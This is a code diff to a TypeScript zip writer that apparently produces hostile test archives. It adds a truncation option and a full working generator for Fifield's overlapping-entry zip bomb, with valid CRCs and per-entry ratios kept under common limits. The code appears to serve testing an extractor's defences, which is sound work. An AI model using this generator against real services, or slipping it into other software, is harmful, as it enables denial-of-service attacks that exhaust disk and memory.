@@ -51,6 +51,23 @@ export interface ZipOptions {
   dataDescriptors?: boolean;
   /** Modification time of every entry (a Date, or ISO 8601 text in scenario files). */
   mtime?: Date | string;
+  /** Cut the finished archive to this many bytes (hostile: a truncated upload). */
+  truncate?: number;
+  /** Write an overlapping-entry zip bomb instead of the entries (hostile; see writeOverlapBomb). */
+  overlapBomb?: OverlapBomb;
+}
+
+/**
+ * David Fifield's "better zip bomb" (https://www.bamsoftware.com/hacks/zipbomb/, the
+ * CVE-2019-13232 class): every entry's compressed data runs to the end of one shared kernel,
+ * so the archive holds `entries` files of about `kernelSize` bytes each while storing the kernel once.
+ */
+export interface OverlapBomb {
+  entries: number;
+  /** Bytes of zeros the shared kernel inflates to. */
+  kernelSize: number;
+  /** Entry names are `<prefix><index>`, default "bomb/". */
+  prefix?: string;
 }
 
 /** What was recorded in the headers (so for hostile entries: the lie, not the truth). */
@@ -254,6 +271,10 @@ export async function writeZip(
   try {
     const out = new Output(fh);
     const records: EntryRecord[] = [];
+    if (options.overlapBomb) {
+      if (entries.length > 0) throw new Error("an overlap bomb is written instead of entries");
+      records.push(...(await writeOverlapBomb(out, options.overlapBomb, dos)));
+    }
     for (const entry of entries) {
       records.push(await writeEntry(out, entry, dos, force, descriptors));
     }
@@ -261,11 +282,16 @@ export async function writeZip(
     for (const r of records) await out.append(centralHeader(r, dos, force));
     await writeEnd(out, records.length, cdOffset, out.pos - cdOffset, force);
     await out.flush();
+    let size = out.pos;
+    if (options.truncate !== undefined && options.truncate < size) {
+      checkSize(options.truncate);
+      await fh.truncate(options.truncate);
+      size = options.truncate;
+    }
     await fh.close();
     // Hash by re-reading the finished file: the patched local headers make
     // hashing during the write (in file order) impossible without buffering.
     const sha256 = await hashFile(tmp);
-    const size = out.pos;
     await rename(tmp, file);
     return { size, sha256, entries: records.map((r) => r.written) };
   } catch (err) {
@@ -347,6 +373,115 @@ async function writeEntry(
     await out.patch(written.localHeaderOffset, localHeader(r, dos, false));
   }
   return r;
+}
+
+/**
+ * The overlap bomb's entries, laid out as
+ *   LFH_0 S_0 LFH_1 S_1 ... LFH_n-1 K
+ * where K is the deflated kernel and S_i a non-final stored deflate block header (5 bytes)
+ * quoting LFH_i+1. Entry i's compressed data runs from the end of LFH_i to the end of K: it
+ * inflates to LFH_i+1 .. LFH_n-1 followed by the kernel, so every entry is valid deflate with a
+ * correct CRC and sizes, and its local header agrees with its central directory record. Headers
+ * are built from the last entry back, since entry i's CRC covers the headers after it.
+ */
+const STORED_BLOCK_HEADER = 5;
+
+async function writeOverlapBomb(out: Output, bomb: OverlapBomb, dos: Dos): Promise<EntryRecord[]> {
+  const { entries, kernelSize } = bomb;
+  if (!Number.isSafeInteger(entries) || entries < 1)
+    throw new RangeError(`invalid entries: ${entries}`);
+  checkSize(kernelSize);
+  const kernelData = Buffer.alloc(kernelSize);
+  // At the writer's usual level, each entry stays under common per-entry ratio limits (~230:1
+  // for zeros); the overlap is what multiplies it.
+  const kernel = zlib.deflateRawSync(kernelData, { level: DEFLATE_LEVEL });
+  const width = String(entries - 1).length;
+  const names = Array.from({ length: entries }, (_, i) =>
+    Buffer.from(`${bomb.prefix ?? "bomb/"}${String(i).padStart(width, "0")}`, "utf8"),
+  );
+  const headers: Buffer[] = new Array(entries);
+  const records: EntryRecord[] = new Array(entries);
+  let crc = zlib.crc32(kernelData); // of what entry i inflates to, built back to front
+  let uncompressed = kernelSize;
+  let compressed = kernel.length;
+  for (let i = entries - 1; i >= 0; i--) {
+    const nameBytes = names[i] as Buffer;
+    const r: EntryRecord = {
+      written: {
+        name: nameBytes.toString("utf8"),
+        type: "file",
+        localHeaderOffset: 0, // set below, once every header's length is known
+        compressedSize: compressed,
+        uncompressedSize: uncompressed,
+        crc32: crc,
+      },
+      nameBytes,
+      flags: 0,
+      method: METHOD_DEFLATE,
+      externalAttrs: unixAttrs(S_IFREG | 0o644),
+      zip64Local: false,
+    };
+    if (compressed >= MAX32 || uncompressed >= MAX32)
+      throw new RangeError("overlap bomb too large for 32-bit sizes");
+    const header = localHeader(r, dos, false);
+    headers[i] = header;
+    records[i] = r;
+    if (i > 0) {
+      // Entry i-1 inflates to this header (quoted by a stored block), then to what entry i does.
+      crc = crc32Combine(zlib.crc32(header), crc, uncompressed);
+      uncompressed += header.length;
+      compressed += STORED_BLOCK_HEADER + header.length;
+    }
+  }
+  for (let i = 0; i < entries; i++) {
+    const r = records[i] as EntryRecord;
+    r.written.localHeaderOffset = out.pos;
+    await out.append(headers[i] as Buffer);
+    if (i < entries - 1) {
+      // BFINAL 0, BTYPE 00 (stored), padded to the byte; then LEN and its complement (RFC 1951 3.2.4).
+      const quote = Buffer.alloc(STORED_BLOCK_HEADER);
+      const next = (headers[i + 1] as Buffer).length;
+      quote.writeUInt16LE(next, 1);
+      quote.writeUInt16LE(~next & MAX16, 3);
+      await out.append(quote);
+    }
+  }
+  await out.append(kernel);
+  return records;
+}
+
+/**
+ * CRC-32 of A + B from crc(A), crc(B) and B's length: zlib's crc32_combine (GF(2) matrices),
+ * which node:zlib does not expose. Appending B again would cost a pass over the kernel per entry.
+ */
+function crc32Combine(crc1: number, crc2: number, len2: number): number {
+  if (len2 <= 0) return crc1;
+  const times = (mat: Uint32Array, vec: number) => {
+    let sum = 0;
+    for (let i = 0; vec !== 0; i++, vec >>>= 1) if (vec & 1) sum ^= mat[i] as number;
+    return sum >>> 0;
+  };
+  const square = (dst: Uint32Array, mat: Uint32Array) => {
+    for (let n = 0; n < 32; n++) dst[n] = times(mat, mat[n] as number);
+  };
+  const even = new Uint32Array(32);
+  const odd = new Uint32Array(32);
+  odd[0] = 0xedb88320;
+  for (let n = 1, row = 1; n < 32; n++, row <<= 1) odd[n] = row >>> 0;
+  square(even, odd); // 2 zero bits
+  square(odd, even); // 4 zero bits
+  let c1 = crc1 >>> 0;
+  let len = len2;
+  do {
+    square(even, odd);
+    if (len & 1) c1 = times(even, c1);
+    len = Math.floor(len / 2);
+    if (len === 0) break;
+    square(odd, even);
+    if (len & 1) c1 = times(odd, c1);
+    len = Math.floor(len / 2);
+  } while (len !== 0);
+  return (c1 ^ crc2) >>> 0;
 }
 
 /** Streams the content (raw deflate or stored) into out; returns the CRC-32 of the uncompressed bytes. */
